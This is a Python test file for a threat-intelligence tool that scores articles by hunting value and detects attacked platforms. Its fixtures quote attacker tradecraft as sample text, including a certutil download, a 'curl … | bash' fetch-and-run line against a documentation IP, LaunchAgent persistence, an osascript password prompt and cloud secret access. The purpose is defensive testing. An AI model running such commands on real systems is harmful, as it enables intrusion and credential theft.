"""The deterministic hunt score and platform detection: values AND the evidence behind them."""

from __future__ import annotations

from ctistudio.ingest.hunt_score import score_article
from ctistudio.ingest.platforms import detect_platforms
from ctistudio.resources import demo_article

PROSE = "The analysis below describes what the intrusion looked like from the defender's point of view. " * 12


def _signals(score) -> dict[str, object]:
    return {e.signal: e for e in score.evidence}


def test_demo_article_scores_high_with_traceable_evidence():
    score = score_article(demo_article())
    found = _signals(score)
    assert score.score == 100
    assert {"lolbin_with_arguments", "powershell_tradecraft", "registry_path", "process_lineage"} <= set(found)
    assert "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" in found["registry_path"].matches
    assert any(m.startswith("powershell.exe -nop -w hidden") for m in found["lolbin_with_arguments"].matches)
    assert found["lolbin_with_arguments"].points == 40  # capped
    for evidence in score.evidence:  # every point can be traced back to words of the article
        for match in evidence.matches:
            if not match.endswith("…") and evidence.category != "negative":
                assert " ".join(match.split()) in " ".join(demo_article().split())


def test_a_binary_name_without_arguments_is_not_a_perfect_discriminator():
    bare = score_article(PROSE + "Attackers like to abuse certutil and rundll32 on Windows systems.")
    with_args = score_article(PROSE + "They ran certutil -urlcache -split -f http://203.0.113.5/p.exe p.exe today.")
    assert "lolbin_with_arguments" not in _signals(bare)
    assert _signals(with_args)["lolbin_with_arguments"].matches == [
        "certutil -urlcache -split -f http://203.0.113.5/p.exe p.exe today."
    ]
    assert with_args.score > bare.score


def test_marketing_scores_zero_with_the_marketing_phrases_as_evidence():
    text = PROSE + (
        "Our platform is award-winning and industry-leading. Request a demo or start a free trial today. "
        "Join our webinar next week and download the report."
    )
    score = score_article(text, "Acme announces a partnership")
    marketing = _signals(score)["marketing"]
    assert score.score == 0
    assert marketing.points == -30 and "award-winning" in [m.lower() for m in marketing.matches]


def test_ioc_only_lists_are_penalised():
    hashes = " ".join(f"{n:064x}" for n in range(30))
    ips = " ".join(f"203.0.113.{n}" for n in range(30))
    text = PROSE[:400] + " Indicators: " + hashes + " " + ips
    found = _signals(score_article(text))
    assert found["ioc_only"].points == -20 and found["ioc_only"].count >= 60


def test_short_texts_are_penalised():
    score = score_article("Patch now: vendor fixes a bug.")
    assert score.score == 0 and _signals(score)["short_text"].matches == ["6 words"]


def test_linux_macos_and_cloud_signals():
    linux = score_article(
        PROSE + "The miner ran curl -s http://203.0.113.8/x.sh | bash and chmod +x /tmp/kworker, "
        "then added crontab -l entries and wrote /etc/ld.so.preload."
    )
    assert _signals(linux)["linux_command"].count >= 3
    mac = score_article(
        PROSE + "It persisted with launchctl load ~/Library/LaunchAgents/com.apple.updater.plist and "
        "used osascript -e to prompt for the password."
    )
    assert _signals(mac)["macos_command"].count >= 2
    cloud = score_article(
        PROSE + "CloudTrail showed CreateAccessKey and AssumeRole calls, then aws s3 cp of the "
        "bucket and GetSecretValue from Secrets Manager."
    )
    assert _signals(cloud)["cloud_activity"].count >= 3


def test_platform_detection_needs_more_than_a_passing_mention():
    assert detect_platforms(PROSE + "This affects Windows users.").platforms == []
    windows = detect_platforms(demo_article())
    assert windows.platforms == ["windows"]
    assert "powershell.exe" in windows.evidence_json()["windows"][0]["matches"] or any(
        "powershell" in m.lower() for e in windows.evidence_json()["windows"] for m in e["matches"]
    )


def test_platform_detection_for_each_platform_with_evidence():
    text = (
        "On Linux hosts the actor used crontab and systemd units under /etc/systemd/system/ and dropped /tmp/.x. "
        "On macOS it loaded ~/Library/LaunchAgents/com.x.plist with launchctl and bypassed Gatekeeper via xattr. "
        "In AWS, CloudTrail recorded AssumeRole and an IAM user creation; Azure AD sign-ins came from the same VPS."
    )
    detection = detect_platforms(text)
    assert set(detection.platforms) == {"linux", "macos", "cloud"}
    evidence = detection.evidence_json()
    assert any("launchctl" in m for e in evidence["macos"] for m in e["matches"])
    assert any("CloudTrail" in m for e in evidence["cloud"] for m in e["matches"])
    assert detection.scores["linux"] >= 4
